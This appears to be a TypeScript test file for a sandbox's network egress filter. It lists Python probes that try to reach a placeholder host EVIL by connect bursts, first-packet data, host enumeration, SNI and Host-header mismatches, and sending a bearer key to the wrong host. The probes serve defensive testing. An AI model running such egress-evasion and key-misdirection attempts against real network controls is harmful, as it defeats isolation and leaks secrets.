/** The node connects before the program has said anything: to nobody who is refused, and for no other host than the one that was asked for. */
import { gotKey, reached, refusal, requested, spokenTo, told, type Attack, type AttackTable } from "../attack.ts";

const refused = { row: 28, succeeded: reached("evil"), rule: "host-not-allowed", told: /refused/i } as const;
/** How connect() ends, as the name of the error. */
const attempt = `
import errno
def attempt(host, port, said=b""):
    one = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET)
    one.settimeout(10)
    try:
        where = (host, port)
        if said: one.settimeout(None); one.sendto(said, 0x20000000, where)
        else: one.connect(where)
        return "connected"
    except OSError as error: return "refused" if error.errno == errno.ECONNREFUSED else str(error)
    finally: one.close()
`;
const alone = (name: string, python: string, more: Partial<Attack> = {}): Attack => ({
  ...refused,
  name,
  python: `${attempt}${python}`,
  ...more,
});

export const beforehand: AttackTable = {
  title: "Connections that are made first",
  prefix: "f",
  long: true,
  attacks: [
    alone("a connection without a word", `say(attempt(EVIL, 443))`),
    alone("the same to an address", `say(attempt(ADDRESS, 443))`),
    alone("the same to an address of IPv6", `say(attempt(ADDRESS6, 443))`),
    alone("on a port of no protocol", `say(attempt(EVIL, 5432))`),
    alone(
      "many at once",
      `with ThreadPoolExecutor(40) as pool: say(*set(pool.map(lambda _: attempt(EVIL, 443), range(200))))`,
    ),
    alone("data in the first packet", `say(attempt(EVIL, 80, head("GET", "/", EVIL)))`),
    alone(
      "connections that are given up at once",
      `
for _ in range(50):
    one = socket.socket(); one.setblocking(False); one.connect_ex((EVIL, 443)); time.sleep(0.02); one.close()
say(attempt(EVIL, 443))`,
    ),
    alone(
      "which hosts exist, by how connect() ends",
      `
ends = [attempt(name, 443) for name in (EVIL, ID + ".nobody.invalid")]
say("they differ:" if len(set(ends)) > 1 else "the same:", *ends)`,
      { succeeded: told(/they differ/) },
    ),
    {
      row: 28,
      name: "TLS of another host over a connection that waited",
      python: `sock = tcp(HOST, 443); time.sleep(1); talk(sock, client_hello(EVIL))`,
      control: `sock = tcp(HOST, 443); time.sleep(1); talk(sock, client_hello(HOST))`,
      succeeded: spokenTo("host"),
      rule: "sni-mismatch",
    },
    {
      row: 28,
      name: "a request for another host over a connection that waited",
      python: `sock = tcp(HOST, 80); time.sleep(1); talk(sock, head("GET", "/", EVIL))`,
      succeeded: requested("host"),
      ...refusal("authority-mismatch"),
    },
    {
      row: 28,
      name: "a key for one host over a connection to another that waited",
      python: `
waiting = [tls(OTHER), tls(HOST)]; time.sleep(1)
talk(waiting[0], head("GET", "/", OTHER, bearer())); waiting[1].close()`,
      succeeded: gotKey("other"),
      ...refusal("secret-not-approved"),
    },
  ],
};
